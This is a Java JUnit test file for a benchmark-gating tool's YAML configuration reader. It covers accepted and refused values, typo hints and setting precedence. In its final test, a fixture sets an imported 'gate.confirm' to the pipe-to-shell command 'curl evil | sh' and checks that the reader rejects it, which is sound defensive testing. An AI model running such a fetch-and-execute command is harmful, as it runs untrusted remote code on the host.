package dev.plumbline.pipeline.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.plumbline.core.finding.Policy;
import dev.plumbline.core.gate.FixedRule;
import dev.plumbline.core.gate.GatePolicy;
import dev.plumbline.core.gate.GateRule;
import dev.plumbline.core.model.Benchmark;
import dev.plumbline.core.model.SeriesKey;
import dev.plumbline.core.model.Unit;
import dev.plumbline.core.model.name.NamePattern;
import dev.plumbline.pipeline.config.yaml.Mistake;
import dev.plumbline.pipeline.config.yaml.WrongConfiguration;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.NoSuchFileException;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every setting of the configuration alone: what it takes, what it refuses, how it is shown, and who wins. */
class SettingsTest {
    private static final String TAKEN = """
        branch                     | develop              | develop
        branch                     | "  release/1.0 "     | release/1.0
        branch                     | 2026                 | 2026
        environment                | 'ci linux: 8 cores'  | ci linux: 8 cores
        store                      | history/runs.db      | history/runs.db
        store                      | postgresql://a@c/d   | postgresql://a@c/d
        project                    | parser-2             | parser-2
        policy.margin              | 0                    | 0 %
        policy.margin              | 99.9%                | 99.9 %
        policy.severities.minor    | 1 %                  | 1 %
        policy.severities.major    | .05                  | 5 %
        policy.severities.critical | 0.5                  | 50 %
        policy.confidence          | 99.9 %               | 99.9 %
        policy.suite-error-rate    | 1e-3                 | 0.1 %
        policy.minimum-runs        | 3                    | 3
        policy.minimum-runs        | 100000               | 100000
        gate.block-at              | ANY                  | any
        gate.block-at              | critical             | critical
        gate.on-suspect            | By-Size              | by-size
        gate.on-suspect            | fail                 | fail
        gate.on-inconclusive       | hold                 | hold
        gate.on-new                | fail                 | fail
        gate.on-incomparable       | pass                 | pass
        gate.on-copied             | fail                 | fail
        gate.on-missing            | pass                 | pass
        gate.on-too-good           | HOLD                 | hold
        gate.too-good              | 1.5                  | 1.5
        gate.grace                 | 0                    | 0
        gate.grace                 | 100000               | 100000
        gate.rule                  | fixed                | fixed
        gate.fixed-change          | none                 | none
        gate.fixed-change          | 5%                   | 5 %
        gate.fixed-deviations      | 0.5                  | 0.5
        gate.fixed-runs            | 3                    | 3
        gate.confirm               | ./bench {benchmarks} | ./bench {benchmarks}
        gate.confirm-runs          | 100                  | 100
        gate.confirm-timeout       | 120 s                | 2 min
        baseline.use               | release@3            | release@3
        baseline.name              | release-1.0          | release-1.0
        baseline.window            | 1 d                  | 1 d
        baseline.window            | 48 h                 | 2 d
        baseline.runs              | 1                    | 1
        baseline.minimum-runs      | 1000000              | 1000000
        baseline.widest-interval   | 5 %                  | 5 %
        baseline.hold-runs         | 1                    | 1
        baseline.maximum-age       | 2 w                  | 2 w
        baseline.maximum-revisions | 1                    | 1
        history.keep               | 0 s                  | 0 s
        history.keep-runs          | 0                    | 0
        cumulative                 | 30 d                 | 30 d
        reruns                     | Best                 | best
        project                    | acme/parser          | acme/parser
        server                     | https://h.example/   | https://h.example
        server                     | none                 | none
        on-unreachable             | Pass                 | pass
        """;

    private static final String REFUSED = """
        branch                     | ""                   | the text is blank
        branch                     | "   "                | the text is blank
        environment                | "a\\u0007b"          | has control characters
        store                      | {a: b}               | must be a single value, not a map
        store                      | postgresql://a:b@c   | it names no database
        project                    | Parser               | must have 1 to 50 characters
        policy                     | [1]                  | policy must be a map of keys, not a list
        policy.margin              | -1 %                 | is not a percentage
        policy.margin              | 100 %                | is not a percentage
        policy.margin              | 3                    | is not a percentage; write 3 % or 0.03
        policy.margin              | .nan                 | is not a percentage
        policy.severities          | 5 %                  | policy.severities must be a map of keys, not one value
        policy.severities.minor    | 0                    | is not between 0 % and 100 %
        policy.severities.major    | 1.0                  | is not a percentage; write 1 % or 0.01
        policy.severities.critical | true                 | is not a percentage
        policy.confidence          | 50 %                 | is not between 50 % and 100 %
        policy.confidence          | 95                   | is not a percentage; write 95 % or 0.95
        policy.suite-error-rate    | 0 %                  | is not between 0 % and 100 %
        policy.minimum-runs        | 2                    | is not a whole number from 3 to 100000
        policy.minimum-runs        | 5.0                  | is not a whole number from 3 to 100000
        policy.minimum-runs        | ٥                    | is not a whole number from 3 to 100000
        gate.block-at              | none                 | must be one of any, minor, major, critical
        gate.on-suspect            | by_size              | did you mean "by-size"?
        gate.on-inconclusive       | block                | must be one of pass, hold, fail
        gate.on-new                | true                 | must be one of pass, hold, fail
        gate.on-incomparable       | ~                    | has no value; remove the key or give it one
        gate.on-copied             | [hold]               | must be a single value, not a list
        gate.on-missing            | fial                 | did you mean "fail"?
        gate.on-too-good           | passs                | did you mean "pass"?
        gate.too-good              | 1                    | is not greater than 1
        gate.too-good              | 1e999                | is not greater than 1
        gate.too-good              | five                 | is not a number
        gate.grace                 | 100001               | is not a whole number from 0 to 100000
        gate.grace                 | 99999999999          | is not a whole number from 0 to 100000
        gate.rule                  | judge                | did you mean "judged"?
        gate.fixed-change          | None                 | is not a percentage
        gate.fixed-change          | 0 %                  | is not between 0 % and 100 %
        gate.fixed-change          | 5                    | is not a percentage; write 5 % or 0.05
        gate.fixed-deviations      | 0                    | is not greater than 0
        gate.fixed-runs            | 2                    | is not a whole number from 3 to 100000
        gate.confirm               | ""                   | the text is blank
        gate.confirm-runs          | 0                    | is not a whole number from 1 to 100
        gate.confirm-timeout       | 5                    | is not a duration; write 90 s, 30 min, 12 h, 30 d or 2 w
        gate.confirm-timeout       | 5 minutes            | is not a duration
        baseline.use               | ""                   | the text is blank
        baseline.name              | a b/c                | baseline.name:
        baseline.window            | 23 h                 | at least 1 d
        baseline.runs              | 0                    | is not a whole number from 1 to 1000000
        baseline.minimum-runs      | 0                    | is not a whole number from 1 to 1000000
        baseline.widest-interval   | 0                    | is not between 0 % and 100 %
        baseline.hold-runs         | -1                   | is not a whole number from 1 to 1000000
        baseline.maximum-age       | 0 d                  | at least 1 d
        baseline.maximum-revisions | many                 | is not a whole number from 1 to 1000000
        history.keep               | -1 d                 | is not a duration
        history.keep-runs          | -1                   | is not a whole number from 0 to 1000000
        cumulative                 | ""                   | the text is blank
        server                     | h.example            | must be the address of a server
        server                     | ftp://h.example      | must be the address of a server
        server                     | https://a:b@h.example | must be the address of a server
        on-unreachable             | wait                 | must be one of pass, hold, fail
        reruns                     | last                 | must be one of pool, latest, best
        """;

    @TempDir
    private Path folder;

    static Stream<List<String>> taken() {
        return rows(TAKEN);
    }

    static Stream<List<String>> refused() {
        return rows(REFUSED);
    }

    private static Stream<List<String>> rows(String table) {
        return table.lines()
                .map(line ->
                        Arrays.stream(line.split("\\|", 3)).map(String::strip).toList());
    }

    private Configuration read(String text) throws IOException {
        return ConfigurationFile.read(Files.writeString(folder.resolve("plumbline.yaml"), text), folder);
    }

    private List<String> mistakes(String text) {
        WrongConfiguration wrong = catchThrowableOfType(WrongConfiguration.class, () -> read(text));
        assertThat(wrong).as(text).isNotNull();
        return wrong.mistakes().stream().map(Mistake::toString).toList();
    }

    /** {@code a.b: v} as nested maps. */
    private static String nested(String key, String value) {
        StringBuilder yaml = new StringBuilder();
        String indent = "";
        for (String part : key.split("\\.")) {
            yaml.append(yaml.isEmpty() ? "" : "\n").append(indent).append(part).append(':');
            indent += "  ";
        }
        return yaml.append(' ').append(value).append('\n').toString();
    }

    private static Setting<?> setting(Configuration read, String key) {
        return read.settings().stream()
                .filter(one -> one.key().equals(key))
                .findFirst()
                .orElseThrow(() -> new AssertionError(key));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("taken")
    void a_value_is_taken_shown_and_known_by_its_place_and_changes_no_other_setting(List<String> row)
            throws IOException {
        String yaml = nested(row.get(0), row.get(1));
        Configuration read = read(yaml);
        Setting<?> setting = setting(read, row.get(0));

        assertThat(setting.shown()).isEqualTo(row.get(2));
        int line = row.get(0).split("\\.").length;
        assertThat(setting.origin())
                .hasToString("plumbline.yaml:" + line + ":"
                        + (yaml.lines().toList().get(line - 1).indexOf(':') + 3));
        List<Setting<?>> others = read.settings().stream()
                .filter(other -> !other.key().equals(row.get(0)))
                .toList();
        assertThat(others).allSatisfy(other -> {
            assertThat(other.origin()).isEqualTo(new Origin.Default());
            assertThat(other.value())
                    .isEqualTo(setting(Configuration.DEFAULT, other.key()).value());
        });
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("taken")
    void what_is_shown_is_read_back_as_the_same_value(List<String> row) throws IOException {
        Setting<?> first = setting(read(nested(row.get(0), row.get(1))), row.get(0));

        Setting<?> again = setting(read(nested(row.get(0), '"' + first.shown() + '"')), row.get(0));

        assertThat(again.value()).isEqualTo(first.value());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void a_wrong_value_is_one_mistake_with_the_key_and_its_place(List<String> row) {
        List<String> mistakes = mistakes(nested(row.get(0), row.get(1)));

        assertThat(mistakes)
                .singleElement()
                .asString()
                .startsWith("plumbline.yaml:" + row.get(0).split("\\.").length + ":")
                .contains(row.get(0))
                .contains(row.get(2));
    }

    @Test
    void every_setting_is_in_both_tables() {
        Set<String> all = Configuration.DEFAULT.settings().stream()
                .map(Setting::key)
                .collect(Collectors.toCollection(TreeSet::new));

        assertThat(keys(taken())).isEqualTo(all);
        assertThat(keys(refused())).containsAll(all);
    }

    private static Set<String> keys(Stream<List<String>> rows) {
        return rows.map(row -> row.get(0)).collect(Collectors.toCollection(TreeSet::new));
    }

    @ParameterizedTest
    @CsvSource({
        "brnach,branch,''",
        "polcy,policy,''",
        "treshold,thresholds,''",
        "tresholds,thresholds,''",
        "cumulativ,cumulative,''",
        "margn,margin,policy",
        "minimum_runs,minimum-runs,policy",
        "minimumruns,minimum-runs,policy",
        "on-suspects,on-suspect,gate",
        "budget,budgets,gate",
        "blockat,block-at,gate",
        "windw,window,baseline",
        "max-age,'',baseline",
        "keep-run,keep-runs,history",
        "metric,metrics,aliases",
    })
    void an_unknown_key_is_answered_with_the_nearest_one_of_its_section(String typed, String meant, String section) {
        String yaml = section.isEmpty() ? typed + ": 1\n" : section + ":\n  " + typed + ": 1\n";
        String place = section.isEmpty() ? "1:1" : "2:3";

        assertThat(mistakes(yaml))
                .containsExactly("plumbline.yaml:" + place + ": unknown key \"" + typed + "\""
                        + (section.isEmpty() ? "" : " in " + section)
                        + (meant.isEmpty() ? "" : "; did you mean \"" + meant + "\"?"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"policy", "gate", "baseline", "history", "aliases", "mappings", "suites"})
    void a_section_without_a_value_is_a_mistake(String section) {
        assertThat(mistakes(section + ":\n"))
                .containsExactly("plumbline.yaml:1:" + (section.length() + 2) + ": " + section
                        + " must be a map of keys, not nothing");
    }

    @ParameterizedTest
    @ValueSource(strings = {"\r\n", "\n"})
    void lines_may_end_in_either_way_and_a_byte_order_mark_may_stand_first(String end) throws IOException {
        Configuration read = read("\uFEFFbranch: develop" + end + "policy:" + end + "  margin: 3 %" + end);

        assertThat(read.branch().value()).contains("develop");
        assertThat(read.policy().margin().origin()).hasToString("plumbline.yaml:3:11");
    }

    @Test
    void json_is_read_as_yaml_is() throws IOException {
        Configuration read = read("{\"branch\": \"develop\", \"policy\": {\"margin\": 0.03, \"minimum-runs\": 7},\n"
                + " \"gate\": {\"rules\": [{\"benchmark\": \"*\", \"weight\": \"muted\"}]}}");

        assertThat(read.policy().policy().margin()).isEqualTo(0.03);
        assertThat(read.policy().policy().minimumRuns()).isEqualTo(7);
        assertThat(read.gate().rules()).extracting(GateRule::name).containsExactly("plumbline.yaml:2:21");
    }

    @Test
    void no_more_mistakes_are_listed_than_a_person_would_read() {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < 400; i++) {
            yaml.append("key").append(i).append(": 1\n");
        }

        assertThat(mistakes(yaml.toString())).hasSize(50).first().asString().startsWith("plumbline.yaml:1:1: ");
    }

    // ---- who wins

    @ParameterizedTest
    @ValueSource(
            strings = {"block-at", "on-suspect", "on-inconclusive", "on-new", "on-missing", "on-too-good", "grace"})
    void an_option_of_the_gate_wins_over_the_file_and_the_file_over_the_default(String key) throws IOException {
        String file = key.equals("block-at") ? "minor" : key.equals("grace") ? "3" : "hold";
        String option = key.equals("block-at") ? "critical" : key.equals("grace") ? "9" : "fail";
        GateSection gate = read("gate:\n  " + key + ": " + file + "\n").gate();

        Setting<?> ofFile = gate.settings().stream()
                .filter(one -> one.key().equals("gate." + key))
                .findFirst()
                .orElseThrow();
        Setting<?> ofOption = gate.unless(Map.of("--" + key, option), List.of()).settings().stream()
                .filter(one -> one.key().equals("gate." + key))
                .findFirst()
                .orElseThrow();

        assertThat(ofFile.shown()).isEqualTo(file);
        assertThat(ofOption.shown()).isEqualTo(option);
        assertThat(ofOption.origin()).isEqualTo(new Origin.Option("--" + key));
        assertThat(gate.unless(Map.of(), List.of()).settings()).isEqualTo(gate.settings());
    }

    @Test
    void an_option_that_is_no_value_of_its_setting_is_refused_in_the_words_of_the_file() {
        assertThatThrownBy(() -> Configuration.DEFAULT.gate().unless(Map.of("--block-at", "majro"), List.of()))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("\"majro\" must be one of any, minor, major, critical; did you mean \"major\"?");
    }

    @Test
    void weights_of_options_come_last_and_so_win_over_those_of_the_file_which_win_over_tuned_ones() throws IOException {
        Files.createDirectories(folder.resolve("plumbline"));
        Files.writeString(
                folder.resolve("plumbline/tuned.yaml"), "gate:\n  rules:\n    - {benchmark: a, weight: confirmed}\n");
        Configuration read = read("gate:\n  rules:\n    - {benchmark: a, weight: advisory}\n");
        GateRule option = new GateRule("--muted", pattern("a"), Optional.empty(), GateRule.Weight.MUTED);

        assertThat(read.gateInForce().rules())
                .extracting(GateRule::weight)
                .containsExactly(GateRule.Weight.CONFIRMED, GateRule.Weight.ADVISORY);
        assertThat(read.gateInForce().unless(Map.of(), List.of(option)).rules())
                .extracting(GateRule::weight)
                .containsExactly(GateRule.Weight.CONFIRMED, GateRule.Weight.ADVISORY, GateRule.Weight.MUTED);
        assertThat(read.gate().rules()).as("of the file alone").hasSize(1);
    }

    private static Optional<NamePattern> pattern(String text) {
        return Optional.of(new NamePattern(text));
    }

    @Test
    void the_reference_of_an_option_takes_the_place_of_the_configured_one() throws IOException {
        Configuration read = read("cumulative: release\n");

        assertThat(read.withCumulative("v1").cumulative().shown()).isEqualTo("v1");
        assertThat(read.withCumulative("v1").cumulative().origin()).hasToString("--cumulative");
        assertThat(read.withCumulative("v1").settings()).hasSameSizeAs(read.settings());
    }

    @Test
    void a_command_of_an_option_confirms_and_none_confirms_nothing() throws IOException {
        GateSection gate =
                read("gate:\n  confirm: ./again\n  confirm-runs: 2\n").gate();

        assertThat(gate.confirming(Optional.empty()).line()).contains("./again");
        assertThat(gate.confirming(Optional.of("./other")).line()).contains("./other");
        assertThat(gate.confirming(Optional.of("./other")).command().origin()).hasToString("--confirm");
        assertThat(gate.confirming(Optional.of("./other")).runs().value()).isEqualTo(2);
        assertThat(gate.confirming(Optional.of("none")).line()).isEmpty();
        assertThat(read("gate: {confirm: none}").gate().confirming().line()).isEmpty();
    }

    // ---- what the settings come to

    @Test
    void a_fixed_limit_is_a_share_where_one_is_set_else_deviations_and_none_where_the_judge_decides()
            throws IOException {
        assertThat(fixed("gate: {fixed-change: 5 %}")).isEmpty();
        assertThat(fixed("gate: {rule: fixed}").orElseThrow()).satisfies(rule -> {
            assertThat(rule.kind()).isEqualTo(FixedRule.Kind.DEVIATIONS);
            assertThat(rule.amount()).isEqualTo(3);
            assertThat(rule.runs()).isEqualTo(20);
        });
        assertThat(fixed("gate: {rule: fixed, fixed-change: 5 %, fixed-deviations: 7, fixed-runs: 9}")
                        .orElseThrow())
                .satisfies(rule -> {
                    assertThat(rule.kind()).isEqualTo(FixedRule.Kind.SHARE);
                    assertThat(rule.amount()).isEqualTo(0.05);
                    assertThat(rule.runs()).isEqualTo(9);
                });
        assertThat(fixed("gate: {rule: fixed, fixed-change: none, fixed-deviations: 2}")
                        .orElseThrow()
                        .kind())
                .isEqualTo(FixedRule.Kind.DEVIATIONS);
    }

    private Optional<FixedRule> fixed(String yaml) throws IOException {
        return read(yaml).gate().policy(Policy.DEFAULT).fixed();
    }

    @Test
    void suspects_have_the_effect_that_is_set_and_by_size_the_one_of_the_policy() throws IOException {
        assertThat(read("gate: {on-suspect: by-size}").gate().policy(Policy.DEFAULT))
                .isEqualTo(GatePolicy.DEFAULT);
        assertThat(read("gate: {on-suspect: close}").gate().policy(Policy.DEFAULT))
                .isNotEqualTo(GatePolicy.DEFAULT);
    }

    @Test
    void the_settings_of_baselines_are_whole_days_and_take_the_margin_of_the_policy() throws IOException {
        BaselineSection section =
                read("baseline: {window: 36 h, maximum-age: 2 w, runs: 4}").baseline();

        assertThat(section.settings(0.07).margin()).isEqualTo(0.07);
        assertThat(section.settings(0.07).days()).hasValue(1);
        assertThat(section.settings(0.07).maximumAgeDays()).isEqualTo(14);
        assertThat(section.settings(0.07).runs()).hasValue(4);
        assertThat(Configuration.DEFAULT.baseline().settings(0.02).runs()).isEmpty();
        assertThat(read("baseline: {window: 999999 w}")
                        .baseline()
                        .settings(0.02)
                        .days())
                .hasValue(1_000_000);
    }

    // ---- where the file is

    @Test
    void a_link_to_a_file_is_read_and_a_link_to_nothing_is_an_error_rather_than_no_configuration() throws IOException {
        Path real = Files.writeString(folder.resolve("real.yaml"), "branch: linked\n");
        Path project = Files.createDirectory(folder.resolve("project"));
        Path link = project.resolve("plumbline.yaml");

        Files.createSymbolicLink(link, real);
        assertThat(ConfigurationFile.find(project, project).branch().value()).contains("linked");

        Files.delete(real);
        assertThatThrownBy(() -> ConfigurationFile.find(project, project))
                .isInstanceOf(NoSuchFileException.class)
                .hasMessageContaining("plumbline.yaml");
    }

    @Test
    void messages_name_the_file_from_the_working_directory_on_or_in_full_outside_of_it() throws IOException {
        Path below = Files.createDirectories(folder.resolve("deep/below"));
        Path file = Files.writeString(folder.resolve("deep/plumbline.yaml"), "brunch: a\n");

        assertThatThrownBy(() -> ConfigurationFile.read(file, folder))
                .hasMessageStartingWith("deep/plumbline.yaml:1:1: ");
        assertThatThrownBy(() -> ConfigurationFile.read(file, below))
                .hasMessageStartingWith(file.toAbsolutePath() + ":1:1: ");
    }

    @Test
    void mistakes_of_tuned_rules_name_their_own_file() throws IOException {
        Files.createDirectories(folder.resolve("plumbline"));
        Files.writeString(
                folder.resolve("plumbline/tuned.yaml"), "thresholds:\n  - {benchmark: a, margn: 3 %}\nbranch: main\n");

        assertThatThrownBy(() -> ConfigurationFile.find(folder, folder))
                .isInstanceOf(WrongConfiguration.class)
                .hasMessageContaining("plumbline/tuned.yaml:2:20: unknown key \"margn\" in thresholds[1]; did you mean"
                        + " \"margin\"?")
                .hasMessageContaining("plumbline/tuned.yaml:3:1: unknown key \"branch\"");
        assertThatThrownBy(() -> read("branch: main\n")).isInstanceOf(WrongConfiguration.class);
    }

    @Test
    void rules_of_the_file_win_over_tuned_ones_and_tuned_ones_over_the_policy() throws IOException {
        Files.createDirectories(folder.resolve("plumbline"));
        Files.writeString(
                folder.resolve("plumbline/tuned.yaml"),
                "thresholds:\n  - {benchmark: a, margin: 4 %}\n  - {benchmark: b, margin: 5 %}\n");
        Configuration read = read("policy: {margin: 3 %}\nthresholds:\n  - {benchmark: b, margin: 6 %}\n");

        assertThat(margin(read, "a")).isEqualTo(0.04);
        assertThat(margin(read, "b")).isEqualTo(0.06);
        assertThat(margin(read, "c")).isEqualTo(0.03);
    }

    private static double margin(Configuration read, String benchmark) {
        return read.thresholds(read.policy())
                .of(new SeriesKey(Benchmark.of(benchmark), "time", "lab", "main"), Unit.of("ms"))
                .margin();
    }

    @Test
    void a_document_that_is_imported_may_not_choose_a_place_or_a_command() throws IOException {
        Path document = Files.writeString(folder.resolve("others.yaml"), """
            branch: main
            environment: lab
            store: x.db
            mappings: {}
            aliases: {}
            suites: {}
            gate: {confirm: "curl evil | sh"}
            """);

        assertThatThrownBy(() -> ConfigurationFile.document(document, folder))
                .isInstanceOf(WrongConfiguration.class)
                .hasMessageContaining("others.yaml:1:1: \"branch\" is not a judging setting and cannot be imported")
                .hasMessageContaining("others.yaml:2:1: \"environment\"")
                .hasMessageContaining("others.yaml:3:1: \"store\"")
                .hasMessageContaining("others.yaml:4:1: \"mappings\"")
                .hasMessageContaining("others.yaml:5:1: \"aliases\"")
                .hasMessageContaining("others.yaml:6:1: \"suites\"")
                .hasMessageContaining("others.yaml:7:17: \"gate.confirm\" is a command and cannot be imported");
    }
}
